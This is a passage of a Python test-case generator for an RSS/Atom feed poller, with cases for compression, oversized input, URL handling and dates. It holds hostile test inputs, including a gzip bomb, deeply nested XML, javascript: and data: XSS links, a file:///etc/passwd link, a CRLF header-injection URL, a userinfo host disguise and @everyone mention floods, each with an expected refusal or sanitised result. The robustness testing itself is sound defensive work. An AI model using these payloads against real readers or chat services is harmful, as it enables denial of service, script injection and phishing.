    yield served("gzip-entity-bomb", gzip.compress(bomb_doc), "gzip", "not-posted", bomb_doc)
    members = b"".join(gzip.compress(b" " * 1000) for _ in range(3000))
    yield served("gzip-many-members", members, "gzip", "any")
    yield served("br-claimed-gzip-sent", gzip.compress(feed("br-claimed-gzip-sent")), "br", "any")
    yield served("unknown-coding", feed("unknown-coding"), "x-klingon", "any")
    yield served("compress-coding", feed("compress-coding"), "compress", "any")
    under = story_feed("gzip-under-cap", channel=" " * (CAP - 20_000)).encode()
    yield served("gzip-under-cap", gzip.compress(under), "gzip", "any", under)
    over = story_feed("gzip-over-cap", channel=" " * (CAP + 10_000)).encode()
    yield served("gzip-over-cap", gzip.compress(over), "gzip", "not-posted")
    yield _case(
        "body-over-cap-chunked",
        "compression",
        story_feed("body-over-cap-chunked", channel=" " * (CAP + 1000)),
        "not-posted",
        chunked=True,
    )


# -- sizes ------------------------------------------------------------------------------------


def sizes() -> Iterator[Case]:
    def case(name: str, body: str | bytes, outcome: Outcome, **kw: object) -> Case:
        return _case(name, "size", body, outcome, **kw)  # type: ignore[arg-type]

    words = " ".join(f"word{i}" for i in range(120_000))
    name = "title-1mb"
    yield case(name, rss([item(f"{headline(name)} {words}", link(name))]), "any")
    name = "title-100k-one-word"
    yield case(name, rss([item(f"{headline(name)} {'x' * 100_000}", link(name))]), "any")
    name = "summary-1500kb"
    yield case(
        name, rss([item(headline(name), link(name), description=words[:1_500_000])]), "posted"
    )
    name = "entries-10000"
    many = [
        f"<item><title>W{i}</title><link>{link(name, i + 10)}</link></item>" for i in range(10_000)
    ]
    yield case(name, rss([item(headline(name), link(name)), *many]), "posted")
    name = "entries-same-guid"
    same = [item(f"{headline(name)} {i}", link(name, i), guid="same") for i in range(1000)]
    yield case(name, rss(same), "any")
    name = "deep-nesting-in-description"
    deep = "<div>" * 100_000 + "deep" + "</div>" * 100_000
    yield case(
        name,
        rss([item(headline(name), link(name), description=deep, raw=True)]),
        "refused",
        problem="refused: elements nested",
    )
    name = "deep-nesting-unclosed"
    yield case(
        name,
        rss([item(headline(name), link(name), description="<x>" * 200_000, raw=True)]),
        "refused",
        problem="refused: elements nested",
    )
    name = "deep-nesting-before-channel"
    yield case(
        name,
        rss([item(headline(name), link(name))], root='<rss version="2.0">' + "<x>" * 100_000),
        "refused",
        problem="refused: elements nested",
    )
    name = "long-attribute-value"
    yield case(
        name, story_feed(name, root=f'<rss version="2.0" x={quoteattr("a" * 1_000_000)}>'), "posted"
    )
    name = "many-attributes"
    attrs = " ".join(f'a{i}="{i}"' for i in range(50_000))
    yield case(
        name,
        story_feed(name, root=f'<rss version="2.0" {attrs}>'),
        "refused",
        problem="refused: an element with",
    )
    name = "many-namespaces"
    spaces = " ".join(f'xmlns:n{i}="urn:n{i}"' for i in range(20_000))
    yield case(
        name,
        story_feed(name, root=f'<rss version="2.0" {spaces}>'),
        "refused",
        problem="refused: an element with",
    )
    name = "long-element-name"
    yield case(name, rss([item(headline(name), link(name), extra=f"<{'e' * 100_000}/>")]), "posted")
    name = "body-just-under-cap"
    body = story_feed(name).encode()
    yield case(name, story_feed(name, channel=" " * (CAP - len(body) - 100)), "posted")
    name = "body-at-cap"
    yield case(
        name, story_feed(name, channel=" " * (CAP - len(story_feed(name).encode()))), "posted"
    )
    name = "body-just-over-cap"
    yield case(
        name,
        story_feed(name, channel=" " * (CAP - len(story_feed(name).encode()) + 1)),
        "not-posted",
    )
    name = "body-far-over-cap"
    yield case(name, story_feed(name, channel=" " * (CAP + 500_000)), "not-posted")
    name = "guid-1mb"
    yield case(name, rss([item(headline(name), link(name), guid="g" * 1_000_000)]), "posted")
    name = "guid-with-controls"
    yield case(name, rss([item(headline(name), link(name), guid="a\x01b\x85c\u202ed")]), "posted")
    name = "zalgo-title"
    yield case(name, rss([item(headline(name) + " Z" + "\u0301" * 10_000, link(name))]), "any")
    name = "emoji-title"
    title = headline(name) + " " + "😀" * 300
    yield case(name, rss([item(title, link(name))]), "any")
    name = "whitespace-title"
    yield case(
        name, rss([item(" \n\t " * 1000, link(name)), item(headline(name), link(name, 1))]), "any"
    )
    name = "control-only-title"
    yield case(name, rss([item("\x01\x02\x85\x9f", link(name))]), "any")
    name = "categories-20k"
    cats = "<category>c</category>" * 20_000
    yield case(name, rss([item(headline(name), link(name), extra=cats)]), "posted")
    name = "enclosures-10k"
    enc = '<enclosure url="https://news.example/a.mp3" length="1" type="audio/mpeg"/>' * 10_000
    yield case(name, rss([item(headline(name), link(name), extra=enc)]), "posted")
    name = "link-elements-5k"
    links = "".join(f"<link>https://news.example/l/{i}</link>" for i in range(5_000))
    yield case(name, rss([item(headline(name), link(name), extra=links)]), "any")
    name = "markup-heavy-description"
    markup = "<p><b>x</b></p>" * 20_000
    yield case(name, rss([item(headline(name), link(name), description=markup)]), "posted")
    name = "unclosed-tags-description"
    yield case(name, rss([item(headline(name), link(name), description="<a " * 100_000)]), "posted")
    name = "unclosed-attribute-description"
    yield case(
        name, rss([item(headline(name), link(name), description='<a b="' * 60_000)]), "posted"
    )
    name = "comment-openers-description"
    yield case(
        name, rss([item(headline(name), link(name), description="<!--" * 100_000)]), "posted"
    )
    name = "unclosed-tags-title"
    yield case(name, rss([item(headline(name) + " " + "<a " * 30_000, link(name))]), "any")
    name = "amp-refs-description"
    yield case(
        name,
        rss([item(headline(name), link(name), description="&amp;" * 100_000, raw=True)]),
        "posted",
    )
    name = "char-refs-description"
    yield case(
        name,
        rss([item(headline(name), link(name), description="&#65;" * 100_000, raw=True)]),
        "posted",
    )
    name = "html-in-title-typed"
    yield case(
        name,
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>A</title>'
        f'<entry><title type="html">&lt;b&gt;{headline(name)}&lt;/b&gt;'
        + "&lt;i&gt;" * 50_000
        + f'</title><link href="{link(name)}"/><id>urn:{name}</id></entry></feed>',
        "any",
    )
    name = "script-flood-summary"
    yield case(
        name, rss([item(headline(name), link(name), description="<script>" * 50_000)]), "posted"
    )
    # More stories about tracked items than one poll posts one by one: the rest go into a
    # digest, whose lines carry each title and link as Markdown.
    name = "many-matching-stories"
    tricky = [
        "**bold** __under__ ~~strike~~ `code` ||spoiler||",
        "[a link](https://phish.example/) and ](https://x.example/)",
        "@everyone @here <@123456789012345678> <@&123456789012345678>",
        "한국어 " * 60,
        "😀" * 200,
        "> quote\n# heading",
    ]
    stories = [
        item(
            f"{headline(name, i)} {tricky[i % len(tricky)]}",
            f"https://news.example/{name}/{i}/" + "p" * (1900 if i % 3 == 0 else 10) + "(x)",
            guid=f"{name}-{i}",
        )
        for i in range(30)
    ]
    yield case(name, rss(stories), "any")


# -- URLs -------------------------------------------------------------------------------------


def urls(source: Callable[[str], str]) -> Iterator[Case]:
    """``source(name)`` is the URL case ``name`` is served from: relative links use it.

    Every link has the case's name in it, so no two stories share a canonical URL (the
    poller would merge them as one story from two outlets).
    """

    def case(name: str, href: str, expected: str | None, *, raw: bool = False) -> Case:
        outcome: Outcome = "any" if expected is None else "posted" if expected else "not-posted"
        return _case(
            name,
            "url",
            rss([item(headline(name), href.format(n=name), guid=f"{name}-1", raw=raw)]),
            outcome,
            url=expected.format(n=name) if expected else None,
        )

    origin = "/".join(source("").split("/", 3)[:3])
    parent = source("").rsplit("/", 2)[0]
    scheme = origin.split(":")[0]
    site = "https://news.example/{n}"
    yield case("javascript", "javascript:alert(1)", "")
    yield case("javascript-mixed-case", "JaVaScRiPt:alert(1)", "")
    yield case("javascript-leading-space", "  javascript:alert(1)", "")
    yield case("javascript-tab", "java\tscript:alert(1)", "")
    yield case("javascript-newline", "java\nscript:alert(1)", "")
    yield case("javascript-char-ref", "javascript&#58;alert(1)", "", raw=True)
    yield case("data-url", "data:text/html,<script>alert(1)</script>", "")
    yield case("data-url-base64", "data:text/html;base64,PHNjcmlwdD4=", "")
    yield case("vbscript", "vbscript:msgbox(1)", "")
    yield case("file-url", "file:///etc/passwd", "")
    yield case("ftp-url", "ftp://news.example/a", "")
    yield case("mailto-url", "mailto:a@news.example", "")
    yield case("relative-path", "/stories/{n}", origin + "/stories/{n}")
    yield case("relative-dot-dot", "../{n}/y", parent + "/{n}/y")
    yield case("relative-query", "?id=5", source("relative-query") + "?id=5")
    yield case("scheme-relative", "//other.example/{n}", scheme + "://other.example/{n}")
    yield case("url-5000", site + "/" + "a" * 4979, "")
    long = "https://news.example/url-2000/"
    yield case("url-2001", long + "a" * (2001 - len(long)), "")
    yield case("url-2000", long + "a" * (2000 - len(long)), long + "a" * (2000 - len(long)))
    yield case("url-grows-past-limit", site + "/" + "é" * 400, "")
    yield case("url-spaces", site + "/a b c", site + "/a%20b%20c")
    yield case("url-nul", site + "/a\x00b", site + "/ab")
    yield case("url-nul-char-ref", site + "/a&#0;b", None, raw=True)
    yield case("url-newline-inside", site + "/a\nb", site + "/ab")
    yield case("url-surrounding-whitespace", "\n   " + site + "/ws  \n", site + "/ws")
    yield case("url-crlf-injection", site + "/x\r\nSet-Cookie: a=b", site + "/xSet-Cookie:%20a=b")
    yield case("url-idn-host", "https://bücher.example/{n}", "https://xn--bcher-kva.example/{n}")
    yield case(
        "url-idn-korean",
        "https://한국.example/{n}/기사",
        "https://xn--3e0b707e.example/{n}/%EA%B8%B0%EC%82%AC",
    )
    yield case("url-idn-invalid", "https://a\u3000b.example/{n}", "")
    yield case("url-idn-replacement-character", "https://a\ufffdb.example/{n}", "")
    yield case("url-idn-label-too-long", "https://" + "한" * 70 + ".example/{n}", "")
    yield case("url-ipv6", "http://[2001:db8::1]:8080/{n}", "http://[2001:db8::1]:8080/{n}")
    yield case("url-ipv6-expanded", "http://[2001:0db8:0000::0001]/{n}", "http://[2001:db8::1]/{n}")
    yield case("url-ipv6-unclosed", "http://[::1/{n}", "")
    yield case("url-ipv6-zone", "http://[fe80::1%25eth0]/{n}", "")
    yield case("url-ipv6-garbage", "http://[not:an:address]/{n}", "")
    yield case("url-userinfo", "https://user:pass@news.example/{n}", site)
    yield case(
        "url-userinfo-disguise",
        "https://trusted.example@evil.example/{n}",
        "https://evil.example/{n}",
    )
    yield case("url-port-out-of-range", "https://news.example:99999/{n}", "")
    yield case("url-port-not-numeric", "https://news.example:abc/{n}", "")
    yield case("url-default-port", "https://news.example:443/{n}", site)
    yield case("url-other-port", "https://news.example:8443/{n}", "https://news.example:8443/{n}")
    # Extra slashes after the scheme are dropped, as browsers do: "{n}" becomes the host.
    yield case("url-extra-slashes", "http:///{n}", "http://{n}/")
    yield case("url-scheme-only", "https://", None)  # what it means is the feed itself
    yield case("url-no-host-port", "http://:80/{n}", "")
    yield case("url-numeric-host", "http://2130706433/{n}", "")
    yield case("url-hex-host", "http://0x7f.1/{n}", "")
    yield case("url-ipv4", "http://192.0.2.1/{n}", "http://192.0.2.1/{n}")
    yield case("url-backslashes", "https:\\\\evil.example\\{n}", None)
    yield case("url-lone-percent", site + "/100%/x%zz", site + "/100%25/x%25zz")
    yield case(
        "url-unsafe-characters",
        site + '/a"b<c>d{{e}}|f^g`h',
        site + "/a%22b%3Cc%3Ed%7Be%7D%7Cf%5Eg%60h",
    )
    yield case("url-bidi-override", site + "/\u202etxt.exe", site + "/%E2%80%AEtxt.exe")
    yield case(
        "url-host-underscore", "https://a_b.news.example/{n}", "https://a_b.news.example/{n}"
    )
    yield case("url-label-64", "https://" + "a" * 64 + ".example/{n}", "")
    yield case("url-host-254", "https://" + ".".join(["a" * 50] * 5) + ".example/{n}", "")
    yield case("url-host-space", "https://news .example/{n}", "")
    yield case("url-trailing-dot-host", "https://news.example./{n}", "https://news.example./{n}")
    yield case("url-percent-flood", site + "/" + "%" * 700, "")
    yield case("url-amp-escaped", site + "?a=1&amp;b=2", site + "?a=1&b=2", raw=True)
    yield case("url-double-fragment", site + "#a#b", site + "#a%23b")
    yield case("url-upper-case", "HTTPS://NEWS.EXAMPLE/{n}/X", site + "/X")
    yield case("url-empty", "", "")
    yield case("url-only-spaces", "   ", "")
    name = "url-missing"
    yield _case(name, "url", rss([item(headline(name), None, guid=f"{name}-1")]), "not-posted")
    name = "url-guid-permalink"
    yield _case(
        name,
        "url",
        rss(
            f"<item><title>{headline(name)}</title>"
            f'<guid isPermaLink="true">{link(name)}</guid></item>'
        ),
        "posted",
        url=link(name),
    )
    name = "url-atom-links"
    yield _case(
        name,
        "url",
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>A</title>'
        f"<entry><title>{headline(name)}</title><id>urn:{name}</id>"
        '<link rel="enclosure" href="javascript:alert(1)"/>'
        f'<link rel="alternate" href="{link(name)}"/></entry></feed>',
        "posted",
        url=link(name),
    )
    name = "url-atom-javascript-alternate"
    yield _case(
        name,
        "url",
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>A</title>'
        f"<entry><title>{headline(name)}</title><id>urn:{name}</id>"
        '<link rel="alternate" href="javascript:alert(1)"/></entry></feed>',
        "not-posted",
    )


# -- dates ------------------------------------------------------------------------------------


def dates(now: datetime) -> Iterator[Case]:
    def case(name: str, date: str, expected: datetime | Literal["unset"] | None) -> Case:
        return _case(
            name,
            "date",
            rss([item(headline(name), link(name), guid=f"{name}-1", date=date)]),
            "posted",
            published=expected,
        )

    yield case("year-1", "Mon, 01 Jan 0001 00:00:00 GMT", None)
    yield case("year-1-iso", "0001-01-01T00:00:00Z", None)
    yield case("year-0", "0000-01-01T00:00:00Z", None)
    yield case("year-9999", "Fri, 31 Dec 9999 23:59:59 GMT", None)
    yield case("year-9999-iso", "9999-12-31T23:59:59Z", None)
    # feedparser reads some impossible dates as other, plausible ones: nothing to check.
    yield case("year-10000", "10000-01-01T00:00:00Z", "unset")
    yield case("year-huge", "Mon, 01 Jan 999999999 00:00:00 GMT", None)
    yield case("year-negative", "-0001-01-01T00:00:00Z", "unset")
    yield case("epoch", "Thu, 01 Jan 1970 00:00:00 GMT", None)
    yield case("before-1990", "1989-12-31T23:59:59Z", None)
    yield case("at-1990", "1990-01-01T00:00:00Z", datetime(1990, 1, 1, tzinfo=UTC))
    yield case("garbage", "not a date at all", None)
    yield case("empty", "", None)
    yield case("huge-string", "Mon, 01 " * 100_000, None)
    yield case("digits-flood", "1" * 100_000, None)
    yield case("month-13", "2026-13-45T00:00:00Z", None)
    yield case("feb-29-non-leap", "2019-02-29T00:00:00Z", "unset")
    yield case("leap-second", "2016-12-31T23:59:60Z", "unset")
    yield case("tz-plus-9999", "Fri, 20 Nov 2026 09:00:00 +9999", "unset")
    yield case("tz-plus-14", "2026-11-20T09:00:00+14:00", datetime(2026, 11, 19, 19, tzinfo=UTC))
    yield case("tz-minus-12", "2026-11-20T09:00:00-12:00", datetime(2026, 11, 20, 21, tzinfo=UTC))
    yield case("tz-minus-2359", "Fri, 20 Nov 2026 09:00:00 -2359", "unset")
    yield case("tz-named", "Fri, 20 Nov 2026 09:00:00 KST", "unset")
    yield case("unix-timestamp", "1700000000", "unset")
    yield case("future-2200", "2200-01-01T00:00:00Z", None)
    soon = (now + timedelta(days=1)).replace(microsecond=0)
    yield case("future-one-day", soon.strftime("%Y-%m-%dT%H:%M:%SZ"), soon)
    later = now + timedelta(days=3)
    yield case("future-three-days", later.strftime("%Y-%m-%dT%H:%M:%SZ"), None)
    yield case("fraction-flood", "2016-09-21T10:00:00." + "1" * 10_000 + "Z", "unset")
    yield case(
        "two-digit-year", "Wed, 21 Sep 16 10:00:00 GMT", datetime(2016, 9, 21, 10, tzinfo=UTC)
    )
    yield case("korean-date", "2016년 9월 21일 10:00", "unset")
    yield case("control-chars", "2016-09-21\x01T10:00:00Z", "unset")
    yield case("week-date", "2016-W38", "unset")
    name = "insane-published-sane-updated"
    yield _case(
        name,
        "date",
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>A</title>'
        f"<entry><title>{headline(name)}</title><id>urn:{name}</id>"
        f'<link href="{link(name)}"/><published>0001-01-01T00:00:00Z</published>'
        "<updated>2016-09-21T10:00:00Z</updated></entry></feed>",
        "posted",
        published=datetime(2016, 9, 21, 10, tzinfo=UTC),
    )
    name = "dc-date"
    yield _case(
        name,
        "date",
        rss(
            f"<item><title>{headline(name)}</title><link>{link(name)}</link>"
            "<dc:date>2016-09-21T10:00:00+09:00</dc:date></item>",
            root='<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">',
        ),
        "posted",
        published=datetime(2016, 9, 21, 1, tzinfo=UTC),
    )


def served_at(origin: str) -> Callable[[str], str]:
    """Where each case is served from: ``{origin}/c/{name}.xml``."""
    return lambda name: f"{origin}/c/{name}.xml"


def build(*, source: Callable[[str], str], now: datetime) -> list[Case]:
    """Every case; ``source(name)`` is the URL case ``name`` is served from."""
    cases = [
        *malformed(),
        *encodings(),
        *entities(),
        *compression(),
        *sizes(),
        *urls(source),
        *dates(now),
    ]
    names = [c.name for c in cases]
    duplicates = {n for n in names if names.count(n) > 1}
    assert not duplicates, f"case names must be unique: {duplicates}"
    return cases
